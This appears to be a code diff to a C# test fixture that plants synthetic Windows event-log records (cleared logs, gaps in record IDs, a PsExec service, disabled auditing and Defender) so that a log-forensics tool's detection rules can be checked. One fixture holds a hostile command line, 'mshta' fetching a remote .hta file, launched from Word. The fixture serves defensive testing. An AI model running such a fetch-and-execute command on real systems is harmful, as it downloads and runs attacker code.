@@ -28,8 +28,10 @@ internal static class WindowsLogPlants
             new(Id, "loud-command-line", PlantKind.Loud, tree => Security(tree, Audit(4688, ("SubjectUserName", "alice"), ("NewProcessName", @"C:\Windows\System32\cmd.exe"), ("CommandLine", "cmd /c mshta http://203.0.113.9/x.hta"), ("ParentProcessName", @"C:\Program Files\Office\WINWORD.EXE"))))
                 { Rule = "command", AtLeast = Severity.Medium },
             new(Id, "quiet-three-logs-cleared", PlantKind.Quiet, tree => System(Security(tree, Cleared(1102, null)), Cleared(104, "System"), Cleared(104, "Application"))) { Rule = "cleared" },
-            new(Id, "quiet-security-log-cleared", PlantKind.Quiet, tree => Security(tree, Cleared(1102, null))) { Rule = "cleared", AtLeast = Severity.Medium },
+            new(Id, "quiet-security-log-cleared", PlantKind.Quiet, tree => tree.File("/Windows/System32/WinEvt/LOGS/SECURITY.EVTX", EvtxWriter.Write(Cleared(1102, null)))) { Rule = "cleared", AtLeast = Severity.Medium },
             new(Id, "quiet-cleared-as-the-system", PlantKind.Quiet, tree => Write(Security(tree, System(1102, null)), "Application", Installed(-3))) { Rule = "cleared", AtLeast = Severity.Medium },
+            new(Id, "quiet-records-taken-out", PlantKind.Quiet, tree => Security(tree, Login(2, "alice", "127.0.0.1") with { RecordId = 100 }, Login(2, "alice", "127.0.0.1") with { RecordId = 120 })) { Rule = "records-missing", AtLeast = Severity.Low },
+            new(Id, "quiet-remote-administration", PlantKind.Quiet, tree => System(tree, Service("PSEXESVC", @"%SystemRoot%\PSEXESVC.exe"))) { Rule = "service-remote-admin", AtLeast = Severity.Low },
             new(Id, "quiet-auditing-off", PlantKind.Quiet, tree => Security(tree, Audit(4719, ("SubjectUserSid", Administrator), ("SubjectUserName", "Administrator"), ("SubcategoryGuid", Guid.Parse("0cce9215-69ae-11d9-bed3-505054503030")), ("AuditPolicyChanges", "%%8448, %%8450"))))
                 { Rule = "auditing-off", AtLeast = Severity.Medium },
             new(Id, "quiet-defender-off", PlantKind.Quiet, tree => Protection(tree, Guard(5001, ("Product Name", "Microsoft Defender Antivirus")))) { Rule = "defender-off", AtLeast = Severity.Medium },
